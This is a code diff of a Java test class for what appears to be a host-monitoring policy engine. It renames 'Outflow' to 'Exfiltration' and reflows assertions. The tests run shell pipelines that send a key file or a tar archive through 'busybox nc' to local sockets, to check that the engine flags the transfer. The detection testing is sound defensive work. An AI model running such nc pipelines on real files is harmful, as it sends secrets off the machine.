@@ -3,7 +3,7 @@ package io.totem.policy.behaviour;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assumptions.assumeThat;
 
-import io.totem.policy.facts.Relations.Outflow;
+import io.totem.policy.facts.Relations.Exfiltration;
 import java.io.IOException;
 import java.net.Inet4Address;
 import java.net.InetAddress;
@@ -22,7 +22,7 @@ import org.junit.jupiter.params.provider.CsvSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /** Data on its way over a connection to an address of this machine that is not the loopback's. */
-class RealOutflowTest {
+class RealExfiltrationTest {
 
     private final WatchedHost host = new WatchedHost();
 
@@ -46,14 +46,16 @@ class RealOutflowTest {
         try (ServerSocket server = new ServerSocket(0, 1, outside())) {
             Process sends = host.start("bash", "-c", filled(pipeline, server));
             try (Socket _ = server.accept()) {
-                assertThat(host.below(sends, seen -> seen.relations().outflow().isPresent())
+                assertThat(host.below(
+                                        sends,
+                                        seen -> seen.relations().exfiltration().isPresent())
                                 .relations()
-                                .outflow()
+                                .exfiltration()
                                 .orElseThrow())
-                        .satisfies(outflow -> {
-                            assertThat(outflow.from()).isEqualTo(from);
-                            assertThat(outflow.secret()).isEmpty();
-                            assertThat(outflow.to().remotePort()).isEqualTo(server.getLocalPort());
+                        .satisfies(exfiltration -> {
+                            assertThat(exfiltration.from()).isEqualTo(from);
+                            assertThat(exfiltration.secret()).isEmpty();
+                            assertThat(exfiltration.to().remotePort()).isEqualTo(server.getLocalPort());
                         });
             }
         }
@@ -66,10 +68,12 @@ class RealOutflowTest {
             Files.writeString(key, "x".repeat(4_000_000));
             Process sends = host.start("bash", "-c", filled("busybox nc $A $P < " + key, server));
             try (Socket _ = server.accept()) {
-                assertThat(host.below(sends, seen -> seen.relations().outflow().isPresent())
+                assertThat(host.below(
+                                        sends,
+                                        seen -> seen.relations().exfiltration().isPresent())
                                 .relations()
-                                .outflow())
-                        .flatMap(Outflow::secret)
+                                .exfiltration())
+                        .flatMap(Exfiltration::secret)
                         .contains(key.toString());
             }
         }
@@ -90,12 +94,13 @@ class RealOutflowTest {
             Process sends = host.start("bash", "-c", filled(command.replace("$K", key.toString()), server) + "; true");
             Process shows =
                     host.start("bash", "-c", filled(command.replace("$K", other.toString()), server) + "; true");
-            assertThat(host.below(sends, seen -> seen.relations().outflow().isPresent())
+            assertThat(host.below(sends, seen -> seen.relations().exfiltration().isPresent())
                             .relations()
-                            .outflow())
-                    .flatMap(Outflow::secret)
+                            .exfiltration())
+                    .flatMap(Exfiltration::secret)
                     .contains(key.toString());
-            host.neverBelow(shows, "curl", seen -> seen.relations().outflow().isPresent());
+            host.neverBelow(
+                    shows, "curl", seen -> seen.relations().exfiltration().isPresent());
         }
     }
 
@@ -112,7 +117,7 @@ class RealOutflowTest {
             host.neverBelow(
                     sends,
                     pipeline.startsWith("tar") ? "sleep" : "busybox",
-                    seen -> seen.relations().outflow().isPresent());
+                    seen -> seen.relations().exfiltration().isPresent());
         }
     }
 
@@ -124,7 +129,9 @@ class RealOutflowTest {
                     host.start("bash", "-c", "tar c " + folder + " | busybox nc 127.0.0.1 " + server.getLocalPort());
             try (Socket _ = server.accept()) {
                 host.neverBelow(
-                        sends, "busybox", seen -> seen.relations().outflow().isPresent());
+                        sends,
+                        "busybox",
+                        seen -> seen.relations().exfiltration().isPresent());
             }
         }
     }
